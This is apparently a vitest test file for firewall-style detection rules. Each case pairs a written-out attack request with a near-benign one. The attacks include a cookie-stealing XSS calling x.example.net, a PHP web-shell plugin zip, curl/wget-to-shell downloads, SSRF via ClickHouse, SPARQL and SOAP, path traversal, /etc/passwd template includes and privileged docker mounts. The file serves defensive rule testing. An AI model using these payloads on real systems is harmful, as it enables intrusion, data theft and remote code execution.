/**
 * Bundled rules of revs 2026-12-13e, 2026-12-13f and 2026-12-13g (issue 18, session 32, ho32): mechanisms held-out-25's misses
 * showed (read) and held-out 19-24's residue (read), each written for the class rather than the product and kept only
 * with no benign hit. Each fires on its attack, sent the way such an exploit sends it, and stays quiet on the benign
 * request closest to it: a UDF jar on the cluster's own store, a SELECT from a cluster name, prose naming
 * load_extension, a Link header and a search for an event handler, a data directory mounted into a container, a
 * template's PHP echo of a variable, a partial of the site's own, a credentials file with a comment line, a Wikidata
 * SERVICE, the anonymous ReplyTo address, an order's own Address element, archive entries that stay within two
 * folders of their own and a virtual endpoint that only calls an API.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const pluginZip = (php: string): RequestSpec => {
  // a stored (uncompressed) zip entry as an uploaded plugin carries it: local header, name, then the file's bytes
  const name = 'SurveyX/SurveyX.php';
  const local = `PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0013\u0000\u0000\u0000${name}${php}`;
  return {
    method: 'POST',
    url: '/index.php/admin/pluginmanager?sa=upload',
    headers: [...BROWSER, ['Content-Type', 'multipart/form-data; boundary=----WebKitFormBoundaryx7']],
    body: `------WebKitFormBoundaryx7\r\nContent-Disposition: form-data; name="the_file"; filename="SurveyX.zip"\r\nContent-Type: application/zip\r\n\r\n${local}\r\n------WebKitFormBoundaryx7--\r\n`,
  };
};

/** A zip of one stored entry, uploaded (CRC left 0: the inspector reads entry names, not contents). */
function zipUpload(entry: string): RequestSpec {
  const n = Buffer.from(entry);
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt32LE(2, 18);
  h.writeUInt32LE(2, 22);
  h.writeUInt16LE(n.length, 26);
  const zip = Buffer.concat([h, n, Buffer.from('hi'), Buffer.from([0x50, 0x4b, 0x05, 0x06, ...new Array<number>(18).fill(0)])]).toString('latin1');
  return {
    method: 'POST',
    url: '/api/v2/teams/0/archive/import',
    headers: [...BROWSER, ['Content-Type', 'multipart/form-data; boundary=b0undary']],
    body: `--b0undary\r\nContent-Disposition: form-data; name="file"; filename="export.boardarchive"\r\nContent-Type: application/octet-stream\r\n\r\n${zip}\r\n--b0undary--\r\n`,
  };
}

const CASES: RuleCase[] = [
  [9000126, 'block', 'a StarRocks UDF whose PROPERTIES file is a jar on another host', postJson('/api/v1/catalogs/default_catalog/databases/ods/sql', '{"query":"CREATE FUNCTION f1(string) RETURNS string PROPERTIES (\\"symbol\\" = \\"com.x.Udf\\", \\"type\\" = \\"StarrocksJar\\", \\"file\\" = \\"https://dl.example.net/u.jar\\")"}'), postJson('/api/v1/catalogs/default_catalog/databases/ods/sql', '{"query":"CREATE FUNCTION f1(string) RETURNS string PROPERTIES (\\"symbol\\" = \\"com.x.Udf\\", \\"type\\" = \\"StarrocksJar\\", \\"file\\" = \\"hdfs://nn:8020/udf/u.jar\\")"}')],
  [9000126, 'block', 'a Doris GLOBAL FUNCTION from an http jar in a form', postForm('/api/query/default_cluster/db', 'stmt=CREATE+GLOBAL+FUNCTION+g(int)+RETURNS+int+PROPERTIES+(%22file%22%3D%22http%3A%2F%2F198.51.100.7%2Fx.jar%22%2C%22symbol%22%3D%22U%22)'), postForm('/api/query/default_cluster/db', 'stmt=SHOW+FUNCTIONS+LIKE+%27jar%25%27')],
  [9000127, 'block', 'a HogQL query reading system.users from a remote() loopback server', postJson('/api/projects/1/query/', '{"query":{"kind":"HogQLQuery","query":"SELECT * FROM remote(\'127.0.0.1:9000\', system.users) LIMIT 5"}}'), postJson('/api/projects/1/query/', '{"query":{"kind":"HogQLQuery","query":"SELECT event, count() FROM events GROUP BY event LIMIT 5"}}')],
  [9000127, 'block', 'a postgresql() table function naming the app database', postJson('/api/projects/2/query/', '{"query":{"kind":"HogQLQuery","query":"SELECT * FROM postgresql(\'db:5432\', \'posthog\', \'posthog_user\', \'posthog\', \'x\')"}}'), postJson('/api/query', '{"sql":"SELECT * FROM cluster(\'default\', system.one)"}')],
  [9000128, 'block', 'a stacked load_extension of an uploaded picture', get('/api/notes?q=1;SELECT%20load_extension(%27/var/www/uploads/a.png%27);--'), get('/search?q=how%20to%20enable%20load_extension%20in%20sqlite')],
  [9000128, 'block', 'load_extension after a quote breakout', get('/search.php?q=1%27%20AND%20load_extension(%27%2Ftmp%2Fx.so%27)--'), postJson('/api/docs', '{"text":"call load_extension() only with a trusted library"}')],
  [9000220, 'block', 'markup with onload in a pre-render data header', get('/products.data', [['X-React-Router-Prerender-Data', '[{"_1":2},"title","<svg/onload=fetch(\'//x.example.net/?c=\'+document.cookie)>"]']]), get('/products.data', [['Link', '<https://cdn.example.com/app.css>; rel=preload; as=style']])],
  [9000220, 'block', 'an img onerror in a forwarded host header', get('/', [['X-Forwarded-Host', 'a"><img src=x onerror=alert(1)>']]), get('/search?q=%3Cimg%20onerror%3D%3E%20attribute', [['Accept', 'text/html;q=0.9, */*;q=0.1']])],
  [9001520, 'block', 'docker run options mounting the host root, privileged, as a JSON value', postJson('/api/v1/applications/abc', '{"custom_docker_run_options":"--privileged --pid=host -v /:/host --entrypoint sh"}'), postJson('/api/v1/applications/abc', '{"custom_docker_run_options":"--ulimit nofile=1024:1024 -v /srv/data:/data"}')],
  [9001520, 'block', 'the runtime socket mounted first', postJson('/api/v1/applications/abc', '{"custom_docker_run_options":"-v /var/run/docker.sock:/var/run/docker.sock --cap-add=SYS_ADMIN"}'), postJson('/api/wiki/pages', '{"text":"Portainer needs docker run -d -v /var/run/docker.sock:/var/run/docker.sock portainer/portainer-ce"}')],
  [9001311, 'block', 'a plugin zip whose PHP echoes a command run on request input', pluginZip('<?php echo shell_exec(base64_decode($_REQUEST["x"])); ?>'), pluginZip('<?php echo htmlspecialchars($title); ?>')],
  [9000721, 'block', 'a Liquid render tag reading a log file', postJson('/api/email-templates/test', '{"template":"Hello {{ name }} {% render \'/var/log/auth.log\' %}","data":{"name":"x"}}'), postJson('/api/email-templates/test', '{"template":"{% render \'partials/header.liquid\' %} Hello {{ name }}","data":{"name":"x"}}')],
  [9000721, 'block', 'a Twig include of /etc/passwd in a theme field', postJson('/admin/themes/preview', '{"body":"<p>{% include \\"/etc/passwd\\" %}</p>"}'), postJson('/admin/themes/preview', '{"body":"<p>{% include \\"footer.html.twig\\" %}</p>"}')],
  [9000397, 'block', 'a DNS credentials line closed by a quote, then hostname and a comment', postJson('/api/nginx/certificates', '{"meta":{"dns_provider":"cloudflare","dns_provider_credentials":"dns_cloudflare_api_token = abc\';hostname #"}}'), postJson('/api/nginx/certificates', '{"meta":{"dns_provider":"cloudflare","dns_provider_credentials":"# token for the zone\ndns_cloudflare_api_token = abc"}}')],
  [9000397, 'block', 'a quote, id and a comment in a form value sent unencoded', postForm('/cgi-bin/save', "name=x';id #"), postForm('/notes', "text=it's done; id #123 closed")],
  [9000508, 'block', 'a SPARQL SERVICE to a private address in a query string', get('/ds/query?query=SELECT%20*%20WHERE%20%7B%20SERVICE%20%3Chttp%3A%2F%2F172.30.88.224%3A9200%2F%3E%20%7B%20%3Fs%20%3Fp%20%3Fo%20%7D%20%7D'), get('/ds/query?query=SELECT%20*%20WHERE%20%7B%20SERVICE%20%3Chttps%3A%2F%2Fquery.wikidata.org%2Fsparql%3E%20%7B%20%3Fs%20%3Fp%20%3Fo%20%7D%20%7D')],
  [9000508, 'block', 'SERVICE SILENT to loopback in a POSTed query', postForm('/sparql', 'query=SELECT+*+WHERE+%7B+SERVICE+SILENT+%3Chttp%3A%2F%2F127.0.0.1%3A8983%2Fsolr%2F%3E+%7B+%3Fs+%3Fp+%3Fo+%7D+%7D'), postForm('/sparql', 'query=SELECT+%3Fservice+WHERE+%7B+%3Fservice+a+%3Chttp%3A%2F%2Fexample.org%2FService%3E+%7D')],
  [9000509, 'block', 'a WS-Addressing ReplyTo on a private host', { method: 'POST', url: '/axis2/services/Version', headers: [...BROWSER, ['Content-Type', 'text/xml']], body: '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing"><soapenv:Header><wsa:ReplyTo><wsa:Address>http://172.21.3.136:8080/</wsa:Address></wsa:ReplyTo></soapenv:Header><soapenv:Body/></soapenv:Envelope>' }, { method: 'POST', url: '/axis2/services/Version', headers: [...BROWSER, ['Content-Type', 'text/xml']], body: '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing"><soapenv:Header><wsa:ReplyTo><wsa:Address>http://www.w3.org/2005/08/addressing/anonymous</wsa:Address></wsa:ReplyTo></soapenv:Header><soapenv:Body/></soapenv:Envelope>' }],
  [9000509, 'block', 'a FaultTo on localhost', { method: 'POST', url: '/services/OrderService', headers: [...BROWSER, ['Content-Type', 'application/soap+xml']], body: '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://www.w3.org/2005/08/addressing"><s:Header><a:FaultTo><a:Address>http://localhost:15672/api/overview</a:Address></a:FaultTo></s:Header><s:Body/></s:Envelope>' }, { method: 'POST', url: '/services/OrderService', headers: [...BROWSER, ['Content-Type', 'application/soap+xml']], body: '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><Order><Address>10 Main St</Address><ReplyTo>ops@example.com</ReplyTo></Order></s:Body></s:Envelope>' }],
  [9000423, 'block', 'an archive entry climbing from a board folder to the app\'s static files', zipUpload('board/../../../../opt/app/static/index.html'), zipUpload('board/../assets/index.html')],
  [9000423, 'block', 'an archive entry climbing to /tmp', zipUpload('x/../../../../tmp/s.sh'), zipUpload('reports/2024/../../archive/q1.pdf')],
  [9001399, 'block', 'a base64 virtual endpoint whose code runs wget of a URL', postJson('/tyk/apis', `{"name":"x","config_data":{},"version_data":{"versions":{"Default":{"extended_paths":{"virtual":[{"response_function_name":"h","function_source_type":"blob","function_source_uri":"${Buffer.from('function h(request, session, config) { var o = exec("wget http://dl.example.net/x.sh;chmod +x /tmp/x;/tmp/x"); return TykJsResponse({Body: "ok", Code: 200}, session.meta_data) }').toString('base64')}","path":"/x","method":"GET"}]}}}}}`), postJson('/tyk/apis', `{"name":"x","config_data":{},"version_data":{"versions":{"Default":{"extended_paths":{"virtual":[{"response_function_name":"h","function_source_type":"blob","function_source_uri":"${Buffer.from('function h(request, session, config) { var r = TykMakeHttpRequest(JSON.stringify({Method: "GET", Domain: "https://api.example.com", Resource: "/"})); return TykJsResponse({Body: r, Code: 200}, session.meta_data) }').toString('base64')}","path":"/x","method":"GET"}]}}}}}`)],
  [9001399, 'block', 'execSync of curl piped to a shell in a stored script', postJson('/api/scripts', '{"source":"require(\'child_process\').execSync(\'curl https://dl.example.net/a|sh\')"}'), postJson('/api/scripts', '{"source":"execSync(\'npm ci\'); // then curl https://registry.npmjs.org/ to check"}')],
];

describe('bundled rules from held-out-25\'s misses and held-out 19-24\'s residue (revs 2026-12-13e, 2026-12-13f, 2026-12-13g)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
